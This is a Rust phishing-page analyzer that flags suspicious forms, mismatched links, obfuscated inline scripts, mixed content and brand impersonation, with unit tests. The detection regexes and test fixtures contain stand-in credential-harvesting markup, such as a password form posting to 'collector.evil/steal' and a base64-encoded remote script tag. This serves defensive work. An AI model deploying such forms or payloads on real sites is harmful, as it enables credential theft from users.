// ZDB-22: Page markup heuristics
// Pure over the markup and the page URL; malformed markup is parsed best-effort

use base64::{
    engine::general_purpose::{STANDARD, STANDARD_NO_PAD},
    Engine as _,
};
use lazy_static::lazy_static;
use regex::Regex;
use scraper::{ElementRef, Html, Selector};
use std::net::IpAddr;
use tracing::debug;
use url::Url;

use crate::models::scan::{CategoryFinding, ContentFinding};
use crate::utils::brand_catalog::{registrable_domain, Brand, BRANDS};

// =============================================================================
// STATIC PATTERNS
// =============================================================================

lazy_static! {
    static ref FORM: Selector = Selector::parse("form").expect("Invalid form selector");
    static ref INPUT: Selector = Selector::parse("input").expect("Invalid input selector");
    static ref PASSWORD_INPUT: Selector =
        Selector::parse(r#"input[type="password"]"#).expect("Invalid password selector");
    static ref ANCHOR: Selector = Selector::parse("a[href]").expect("Invalid anchor selector");
    static ref SCRIPT: Selector = Selector::parse("script").expect("Invalid script selector");
    static ref BRANDING: Selector =
        Selector::parse("title, h1, h2, h3, img, [class*=\"logo\"]").expect("Invalid branding selector");
    static ref SUBMIT_CONTROL: Selector =
        Selector::parse(r#"button, input[type="submit"], input[type="button"]"#)
            .expect("Invalid submit selector");

    /// Sub-resources whose insecure loading counts as mixed content
    static ref MIXED_CONTENT: [(Selector, &'static str); 5] = [
        (Selector::parse("script[src]").expect("Invalid script src selector"), "src"),
        (
            Selector::parse(r#"link[rel~="stylesheet"][href]"#)
                .expect("Invalid stylesheet selector"),
            "href",
        ),
        (Selector::parse("img[src]").expect("Invalid img selector"), "src"),
        (Selector::parse("iframe[src]").expect("Invalid iframe selector"), "src"),
        (Selector::parse("form[action]").expect("Invalid form action selector"), "action"),
    ];

    static ref CARD_FIELD: Regex =
        Regex::new(r"(?i)(card.?num|cc-?num|cc-number|cc-csc|cvv|cvc|credit.?card|cc-exp)")
            .expect("Invalid card field regex");

    static ref LOGIN_TEXT: Regex =
        Regex::new(r"(?i)\b(sign\s?in|log\s?in|verify|confirm identity)\b")
            .expect("Invalid login text regex");

    /// Host-shaped text in a link: optional scheme, host, TLD, optional path
    static ref DISPLAYED_DOMAIN: Regex =
        Regex::new(r"(?i)(https?://)?\b((?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+([a-z]{2,}))\b(/)?")
            .expect("Invalid displayed domain regex");

    static ref OBFUSCATION_MARKERS: Vec<(&'static str, Regex)> = vec![
        ("eval(", Regex::new(r"\beval\s*\(").expect("Invalid eval regex")),
        ("unescape(", Regex::new(r"\bunescape\s*\(").expect("Invalid unescape regex")),
        ("atob(", Regex::new(r"\batob\s*\(").expect("Invalid atob regex")),
        (
            "String.fromCharCode",
            Regex::new(r"String\.fromCharCode").expect("Invalid fromCharCode regex"),
        ),
        (
            "hex escape sequences",
            Regex::new(r"(?:\\x[0-9a-fA-F]{2}){8,}").expect("Invalid hex escape regex"),
        ),
        (
            "unicode escape sequences",
            Regex::new(r"(?:\\u[0-9a-fA-F]{4}){6,}").expect("Invalid unicode escape regex"),
        ),
    ];

    static ref BASE64_LITERAL: Regex =
        Regex::new(r#"["'`]([A-Za-z0-9+/]{200,}={0,2})["'`]"#).expect("Invalid base64 regex");
}

/// TLDs accepted for bare lowercase `name.tld` link text
const DISPLAYED_TLDS: &[&str] = &[
    "com", "net", "org", "edu", "gov", "info", "biz", "io", "co", "me", "app", "us", "uk",
    "de", "fr", "ru", "cn", "xyz", "top", "online", "site", "tk", "ml", "ga", "cf", "gq",
];

/// Decoded payload fragments that mark a base64 literal as executable content
const PAYLOAD_MARKERS: &[&str] = &["<script", "eval(", "<iframe", "http://", "https://"];

// =============================================================================
// CONFIGURATION
// =============================================================================

#[derive(Debug, Clone)]
pub struct HtmlAnalyzerConfig {
    /// Share of outbound links (0-1) above which the page is flagged
    pub external_link_ratio: f64,
    /// Pages with fewer resolvable links skip the ratio check
    pub min_links_for_ratio: usize,
    /// Registrable domains trusted to serve third-party scripts
    pub cdn_allowlist: Vec<String>,
}

impl Default for HtmlAnalyzerConfig {
    fn default() -> Self {
        Self {
            external_link_ratio: 0.6,
            min_links_for_ratio: 5,
            cdn_allowlist: [
                "cloudflare.com",
                "jsdelivr.net",
                "unpkg.com",
                "googleapis.com",
                "gstatic.com",
                "jquery.com",
                "bootstrapcdn.com",
                "fontawesome.com",
                "googletagmanager.com",
                "google-analytics.com",
                "recaptcha.net",
                "hcaptcha.com",
                "stripe.com",
                "cloudfront.net",
                "akamaihd.net",
            ]
            .iter()
            .map(|d| d.to_string())
            .collect(),
        }
    }
}

// =============================================================================
// HTML ANALYZER
// =============================================================================

/// The page being analyzed, as far as its URL could be understood
struct PageContext {
    url: Option<Url>,
    /// Registrable domain, or the bare address for IP hosts
    site: Option<String>,
    host: String,
}

impl PageContext {
    fn new(page_url: &str) -> Self {
        let trimmed = page_url.trim();
        let url = Url::parse(trimmed)
            .or_else(|_| Url::parse(&format!("https://{}", trimmed)))
            .ok();
        let site = url.as_ref().and_then(site_of);
        let host = url
            .as_ref()
            .and_then(|u| u.host_str())
            .unwrap_or(trimmed)
            .to_lowercase();
        Self { url, site, host }
    }

    fn is_https(&self) -> bool {
        self.url.as_ref().map(|u| u.scheme() == "https").unwrap_or(false)
    }

    fn resolve(&self, reference: &str) -> Option<Url> {
        match &self.url {
            Some(base) => base.join(reference.trim()).ok(),
            None => Url::parse(reference.trim()).ok(),
        }
    }

    /// True when `target` is served from a different site than the page
    fn is_foreign(&self, target: &Url) -> bool {
        match (site_of(target), &self.site) {
            (Some(target_site), Some(page_site)) => target_site != *page_site,
            (Some(_), None) => true,
            (None, _) => false,
        }
    }

    fn owned_by(&self, brand: &Brand) -> bool {
        self.site
            .as_deref()
            .map(|site| brand.owns_domain(site))
            .unwrap_or(false)
    }
}

#[derive(Debug, Clone, Default)]
pub struct HtmlAnalyzer {
    config: HtmlAnalyzerConfig,
}

impl HtmlAnalyzer {
    pub fn new(config: HtmlAnalyzerConfig) -> Self {
        Self { config }
    }

    /// Evaluate every content category independently.
    ///
    /// `certificate_issue` carries a TLS problem noticed while fetching and is
    /// reported under SSL issues.
    pub fn analyze(
        &self,
        html: &str,
        page_url: &str,
        certificate_issue: Option<&str>,
    ) -> ContentFinding {
        let document = Html::parse_document(html);
        let page = PageContext::new(page_url);

        let finding = ContentFinding {
            suspicious_forms: CategoryFinding::from_reasons(self.check_forms(&document, &page)),
            suspicious_links: CategoryFinding::from_reasons(self.check_links(&document, &page)),
            suspicious_scripts: CategoryFinding::from_reasons(
                self.check_scripts(&document, &page),
            ),
            ssl_issues: CategoryFinding::from_reasons(self.check_ssl(
                &document,
                &page,
                certificate_issue,
            )),
            brand_impersonation: CategoryFinding::from_reasons(
                self.check_brand_content(&document, &page),
            ),
        };

        debug!(
            "HTML analysis of {} flagged {} categories",
            page.host,
            finding.detected().count()
        );
        finding
    }

    // =============================================================================
    // FORMS
    // =============================================================================

    fn check_forms(&self, document: &Html, page: &PageContext) -> Vec<String> {
        let mut reasons = Vec::new();

        for form in document.select(&FORM) {
            let action = form.value().attr("action").unwrap_or("").trim();
            let sensitive = sensitive_fields(&form);

            if action.to_lowercase().starts_with("mailto:") {
                push_unique(
                    &mut reasons,
                    format!("Form submits its data by email ({})", action),
                );
                continue;
            }

            let target = if action.is_empty() {
                page.url.clone()
            } else {
                page.resolve(action)
            };

            if let Some(target) = &target {
                if page.is_foreign(target) {
                    push_unique(
                        &mut reasons,
                        format!(
                            "Form posts to a different origin ({})",
                            target.host_str().unwrap_or("unknown host")
                        ),
                    );
                }
            }

            if let Some(kind) = sensitive {
                if !page.is_https() {
                    push_unique(
                        &mut reasons,
                        format!("Form collects {} over an insecure connection", kind),
                    );
                } else if target.as_ref().map(|t| t.scheme() == "http").unwrap_or(false) {
                    push_unique(
                        &mut reasons,
                        format!("Form sends {} to a plain HTTP endpoint", kind),
                    );
                }
            }
        }

        reasons
    }

    // =============================================================================
    // LINKS
    // =============================================================================

    fn check_links(&self, document: &Html, page: &PageContext) -> Vec<String> {
        let mut reasons = Vec::new();
        let mut total = 0usize;
        let mut external = 0usize;

        for anchor in document.select(&ANCHOR) {
            let href = anchor.value().attr("href").unwrap_or("").trim();
            let lower = href.to_lowercase();
            if href.is_empty()
                || href.starts_with('#')
                || ["javascript:", "mailto:", "tel:", "data:"]
                    .iter()
                    .any(|p| lower.starts_with(p))
            {
                continue;
            }

            let Some(target) = page.resolve(href) else {
                continue;
            };
            if !matches!(target.scheme(), "http" | "https") {
                continue;
            }

            total += 1;
            if !page.is_foreign(&target) {
                continue;
            }
            external += 1;

            let target_host = target.host_str().unwrap_or("").to_lowercase();
            let target_site = site_of(&target).unwrap_or_default();
            let text = element_text(&anchor);

            for brand in BRANDS.iter().filter(|b| mentions_brand(&text, b)) {
                if !brand.owns_domain(&target_site) {
                    push_unique(
                        &mut reasons,
                        format!(
                            "Link text names {} but points to {}",
                            brand.display_name, target_host
                        ),
                    );
                }
            }

            for shown in DISPLAYED_DOMAIN
                .captures_iter(&text)
                .filter(|c| is_displayed_domain(c))
            {
                let shown = shown[2].to_lowercase();
                let shown_host = shown.strip_prefix("www.").unwrap_or(&shown);
                if registrable_domain(shown_host) != target_site {
                    push_unique(
                        &mut reasons,
                        format!("Link text shows {} but points to {}", shown, target_host),
                    );
                }
            }
        }

        if total >= self.config.min_links_for_ratio
            && external as f64 / total as f64 >= self.config.external_link_ratio
        {
            reasons.insert(
                0,
                format!("{} of {} links point to other domains", external, total),
            );
        }

        reasons
    }

    // =============================================================================
    // SCRIPTS
    // =============================================================================

    fn check_scripts(&self, document: &Html, page: &PageContext) -> Vec<String> {
        let mut reasons = Vec::new();

        for script in document.select(&SCRIPT) {
            if let Some(src) = script.value().attr("src") {
                let Some(target) = page.resolve(src) else {
                    continue;
                };
                if page.is_foreign(&target) && !self.is_allowlisted(&target) {
                    push_unique(
                        &mut reasons,
                        format!(
                            "Script loaded from unlisted domain {}",
                            target.host_str().unwrap_or("unknown host")
                        ),
                    );
                }
                continue;
            }

            let body: String = script.text().collect();
            if body.trim().is_empty() {
                continue;
            }

            let markers: Vec<&str> = OBFUSCATION_MARKERS
                .iter()
                .filter(|(_, pattern)| pattern.is_match(&body))
                .map(|(label, _)| *label)
                .collect();
            if !markers.is_empty() {
                push_unique(
                    &mut reasons,
                    format!("Inline script uses obfuscation markers: {}", markers.join(", ")),
                );
            }

            if BASE64_LITERAL
                .captures_iter(&body)
                .any(|c| is_encoded_payload(&c[1]))
            {
                push_unique(
                    &mut reasons,
                    "Inline script embeds an encoded script or URL payload".to_string(),
                );
            }
        }

        reasons
    }

    fn is_allowlisted(&self, target: &Url) -> bool {
        let site = site_of(target).unwrap_or_default();
        self.config.cdn_allowlist.iter().any(|d| *d == site)
    }

    // =============================================================================
    // SSL / MIXED CONTENT
    // =============================================================================

    fn check_ssl(
        &self,
        document: &Html,
        page: &PageContext,
        certificate_issue: Option<&str>,
    ) -> Vec<String> {
        let mut reasons = Vec::new();

        if page.is_https() {
            let insecure = MIXED_CONTENT
                .iter()
                .flat_map(|(selector, attr)| {
                    document
                        .select(selector)
                        .filter_map(move |el| el.value().attr(attr))
                })
                .filter(|value| value.trim().to_lowercase().starts_with("http://"))
                .count();
            if insecure > 0 {
                reasons.push(format!(
                    "Secure page loads {} resource(s) over plain HTTP",
                    insecure
                ));
            }
        } else if page.url.is_some() && document.select(&PASSWORD_INPUT).next().is_some() {
            reasons.push("Login page is served over plain HTTP".to_string());
        }

        if let Some(issue) = certificate_issue {
            reasons.push(format!("Certificate problem: {}", issue));
        }

        reasons
    }

    // =============================================================================
    // BRAND IMPERSONATION (CONTENT)
    // =============================================================================

    fn check_brand_content(&self, document: &Html, page: &PageContext) -> Vec<String> {
        if !has_login_affordance(document) {
            return Vec::new();
        }

        let branding: String = document
            .select(&BRANDING)
            .map(|el| {
                let mut text = element_text(&el);
                for attr in ["alt", "src", "title"] {
                    if let Some(value) = el.value().attr(attr) {
                        text.push(' ');
                        text.push_str(value);
                    }
                }
                text
            })
            .collect::<Vec<_>>()
            .join(" ");

        BRANDS
            .iter()
            .filter(|brand| mentions_brand(&branding, brand) && !page.owned_by(brand))
            .map(|brand| {
                format!(
                    "Page presents {} branding with a login form on {}",
                    brand.display_name, page.host
                )
            })
            .collect()
    }
}

/// Analyze with default thresholds and no fetch-stage certificate note
pub fn analyze_html(html: &str, url: &str) -> ContentFinding {
    HtmlAnalyzer::default().analyze(html, url, None)
}

// =============================================================================
// HELPERS
// =============================================================================

fn site_of(url: &Url) -> Option<String> {
    let host = url.host_str()?.to_lowercase();
    let host = host.trim_matches(|c| c == '[' || c == ']');
    if host.parse::<IpAddr>().is_ok() {
        return Some(host.to_string());
    }
    let host = host.strip_prefix("www.").unwrap_or(host);
    Some(registrable_domain(host))
}

fn element_text(el: &ElementRef<'_>) -> String {
    el.text()
        .collect::<Vec<_>>()
        .join(" ")
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
}

/// Word-level match so that e.g. "purchase" never counts as "chase"
fn mentions_brand(text: &str, brand: &Brand) -> bool {
    let lower = text.to_lowercase();
    if lower
        .split(|c: char| !c.is_ascii_alphanumeric())
        .any(|word| word == brand.name)
    {
        return true;
    }
    let display = brand.display_name.to_lowercase();
    display.contains(' ') && lower.contains(&display)
}

/// Describes the most sensitive kind of field a form collects
fn sensitive_fields(form: &ElementRef<'_>) -> Option<&'static str> {
    let mut password = false;
    for input in form.select(&INPUT) {
        let el = input.value();
        if el
            .attr("type")
            .map(|t| t.eq_ignore_ascii_case("password"))
            .unwrap_or(false)
        {
            password = true;
        }
        let card = ["name", "id", "autocomplete", "placeholder"]
            .iter()
            .filter_map(|a| el.attr(a))
            .any(|v| CARD_FIELD.is_match(v));
        if card {
            return Some("payment card data");
        }
    }
    password.then_some("passwords")
}

fn has_login_affordance(document: &Html) -> bool {
    if document.select(&PASSWORD_INPUT).next().is_some() {
        return true;
    }
    document.select(&SUBMIT_CONTROL).any(|el| {
        let label = element_text(&el);
        let value = el.value().attr("value").unwrap_or("");
        LOGIN_TEXT.is_match(&label) || LOGIN_TEXT.is_match(value)
    })
}

fn is_encoded_payload(literal: &str) -> bool {
    let decoded = STANDARD
        .decode(literal)
        .or_else(|_| STANDARD_NO_PAD.decode(literal.trim_end_matches('=')));
    match decoded {
        Ok(bytes) => {
            let text = String::from_utf8_lossy(&bytes).to_lowercase();
            PAYLOAD_MARKERS.iter().any(|m| text.contains(m))
        },
        Err(_) => false,
    }
}

/// Product names like `Node.js` or `ASP.NET` share the host shape, so bare
/// text only counts when written lowercase with a common TLD. A scheme,
/// a `www.` prefix or a trailing path always count.
fn is_displayed_domain(caps: &regex::Captures<'_>) -> bool {
    let host = &caps[2];
    let tld = caps[3].to_lowercase();
    caps.get(1).is_some()
        || caps.get(4).is_some()
        || host.to_lowercase().starts_with("www.")
        || (host == host.to_lowercase() && DISPLAYED_TLDS.contains(&tld.as_str()))
}

fn push_unique(reasons: &mut Vec<String>, reason: String) {
    if !reasons.contains(&reason) {
        reasons.push(reason);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_empty_markup_detects_nothing() {
        let finding = analyze_html("", "https://example.com");
        assert!(!finding.any_detected());
        assert!(finding.suspicious_forms.details.is_empty());
        assert!(finding.ssl_issues.details.is_empty());
    }

    #[test]
    fn test_clean_page_detects_nothing() {
        let html = r#"
            <html><head><title>Example Domain</title>
            <script src="https://cdn.jsdelivr.net/npm/htmx.org"></script>
            <script>window.dataLayer = window.dataLayer || [];</script>
            </head><body>
            <a href="/about">About</a>
            <a href="https://example.com/contact">example.com/contact</a>
            <form action="/search" method="get"><input type="text" name="q"></form>
            </body></html>"#;
        let finding = analyze_html(html, "https://example.com");
        assert!(!finding.any_detected(), "{:?}", finding);
    }

    #[test]
    fn test_malformed_markup_is_best_effort() {
        let html = "<form action='https://collector.evil/steal'><input type=password";
        let finding = analyze_html(html, "https://example.com");
        assert!(finding.suspicious_forms.detected);
    }

    #[test]
    fn test_cross_origin_password_form() {
        let html = r#"<form action="https://collector.example.net/login">
            <input type="email" name="user"><input type="password" name="pass"></form>"#;
        let finding = analyze_html(html, "https://paypa1-secure-login.tk/account");
        assert!(finding.suspicious_forms.detected);
        assert!(finding
            .suspicious_forms
            .details
            .contains("different origin (collector.example.net)"));
    }

    #[test]
    fn test_password_form_over_http() {
        let html = r#"<form action="/login"><input type="password" name="pw"></form>"#;
        let finding = analyze_html(html, "http://example.com/login");
        assert!(finding.suspicious_forms.detected);
        assert!(finding.suspicious_forms.details.contains("insecure connection"));
        assert!(finding.ssl_issues.detected);
    }

    #[test]
    fn test_card_form_to_http_endpoint() {
        let html = r#"<form action="http://example.com/pay">
            <input name="cc-number"><input name="cvv"></form>"#;
        let finding = analyze_html(html, "https://example.com/checkout");
        assert!(finding.suspicious_forms.details.contains("payment card data"));
        assert!(finding.ssl_issues.detected);
    }

    #[test]
    fn test_mailto_form() {
        let html = r#"<form action="mailto:drop@example.org"><input name="x"></form>"#;
        let finding = analyze_html(html, "https://example.com");
        assert!(finding.suspicious_forms.details.contains("by email"));
    }

    #[test]
    fn test_external_link_ratio() {
        let html = r#"
            <a href="https://a.example.org">a</a>
            <a href="https://b.example.net">b</a>
            <a href="https://c.example.io">c</a>
            <a href="https://d.example.biz">d</a>
            <a href="/home">home</a>"#;
        let finding = analyze_html(html, "https://example.com");
        assert!(finding.suspicious_links.detected);
        assert!(finding.suspicious_links.details.starts_with("4 of 5 links"));

        let few = r#"<a href="https://a.example.org">a</a>"#;
        assert!(!analyze_html(few, "https://example.com").suspicious_links.detected);
    }

    #[test]
    fn test_brand_anchor_mismatch() {
        let html = r#"<a href="https://paypal-verify.example.tk/go">Log in to PayPal</a>"#;
        let finding = analyze_html(html, "https://example.com");
        assert!(finding
            .suspicious_links
            .details
            .contains("Link text names PayPal but points to paypal-verify.example.tk"));

        let genuine = r#"<a href="https://www.paypal.com/signin">PayPal</a>"#;
        assert!(!analyze_html(genuine, "https://example.com").suspicious_links.detected);
    }

    #[test]
    fn test_displayed_domain_mismatch() {
        let html = r#"<a href="https://login.evil.example.net">www.mybank.com</a>"#;
        let finding = analyze_html(html, "https://example.com");
        assert!(finding
            .suspicious_links
            .details
            .contains("Link text shows www.mybank.com but points to login.evil.example.net"));
    }

    #[test]
    fn test_product_names_are_not_displayed_domains() {
        let html = r#"
            <a href="https://nodejs.org/en">Node.js</a>
            <a href="https://dotnet.microsoft.com">ASP.NET</a>"#;
        let finding = analyze_html(html, "https://example.com");
        assert!(!finding.suspicious_links.detected, "{}", finding.suspicious_links.details);
    }

    #[test]
    fn test_bare_and_prefixed_displayed_domains() {
        let bare = r#"<a href="https://collector.example.net">paypal.com</a>"#;
        assert!(analyze_html(bare, "https://example.com")
            .suspicious_links
            .details
            .contains("Link text shows paypal.com but points to collector.example.net"));

        let with_scheme = r#"<a href="https://collector.example.net">https://Portal.Contoso.Dev/</a>"#;
        assert!(analyze_html(with_scheme, "https://example.com")
            .suspicious_links
            .details
            .contains("Link text shows portal.contoso.dev"));

        let honest = r#"<a href="https://docs.rs/serde">docs.rs/serde</a>"#;
        assert!(!analyze_html(honest, "https://example.com").suspicious_links.detected);
    }

    #[test]
    fn test_obfuscated_inline_script() {
        let html = r#"<script>var p = atob("ZG9j"); eval(p);</script>"#;
        let finding = analyze_html(html, "https://example.com");
        assert!(finding.suspicious_scripts.detected);
        assert!(finding.suspicious_scripts.details.contains("eval("));
        assert!(finding.suspicious_scripts.details.contains("atob("));
    }

    #[test]
    fn test_base64_payload_literal() {
        let payload = "<script src=\"https://collector.example.net/x.js\"></script>".repeat(4);
        let encoded = STANDARD.encode(payload);
        assert!(encoded.len() >= 200);
        let html = format!("<script>var blob = '{}';</script>", encoded);
        let finding = analyze_html(&html, "https://example.com");
        assert!(finding.suspicious_scripts.details.contains("encoded script"));
    }

    #[test]
    fn test_unlisted_external_script() {
        let html = r#"
            <script src="https://cdnjs.cloudflare.com/ajax/libs/jquery.js"></script>
            <script src="https://tracker.example.ru/t.js"></script>
            <script src="/static/app.js"></script>"#;
        let finding = analyze_html(html, "https://example.com");
        assert_eq!(
            finding.suspicious_scripts.details,
            "Script loaded from unlisted domain tracker.example.ru"
        );
    }

    #[test]
    fn test_mixed_content_counts_resources() {
        let html = r#"
            <link rel="stylesheet" href="http://example.com/a.css">
            <img src="http://example.com/logo.png">
            <iframe src="http://example.com/frame"></iframe>
            <img src="https://example.com/ok.png">"#;
        let finding = analyze_html(html, "https://example.com");
        assert!(finding
            .ssl_issues
            .details
            .contains("loads 3 resource(s) over plain HTTP"));
    }

    #[test]
    fn test_certificate_issue_is_reported() {
        let analyzer = HtmlAnalyzer::default();
        let finding = analyzer.analyze(
            "<p>hi</p>",
            "https://example.com",
            Some("self-signed certificate"),
        );
        assert!(finding.ssl_issues.detected);
        assert_eq!(
            finding.ssl_issues.details,
            "Certificate problem: self-signed certificate"
        );
    }

    #[test]
    fn test_brand_content_on_foreign_domain() {
        let html = r#"<html><head><title>PayPal: Log in to your account</title></head>
            <body><img src="/img/paypal-logo.svg" alt="logo">
            <form action="/auth"><input type="password" name="pw"></form></body></html>"#;

        let fake = analyze_html(html, "https://paypa1-secure-login.tk/account");
        assert!(fake.brand_impersonation.detected);
        assert!(fake
            .brand_impersonation
            .details
            .contains("PayPal branding with a login form on paypa1-secure-login.tk"));

        let real = analyze_html(html, "https://www.paypal.com/signin");
        assert!(!real.brand_impersonation.detected);
    }

    #[test]
    fn test_brand_without_login_is_not_impersonation() {
        let html = r#"<title>We accept PayPal</title><h1>Checkout</h1>"#;
        let finding = analyze_html(html, "https://shop.example.com");
        assert!(!finding.brand_impersonation.detected);
    }

    #[test]
    fn test_brand_words_match_whole_words() {
        let html = r#"<title>Purchase history</title><button>Sign in</button>"#;
        let finding = analyze_html(html, "https://shop.example.com");
        assert!(!finding.brand_impersonation.detected);
    }
}
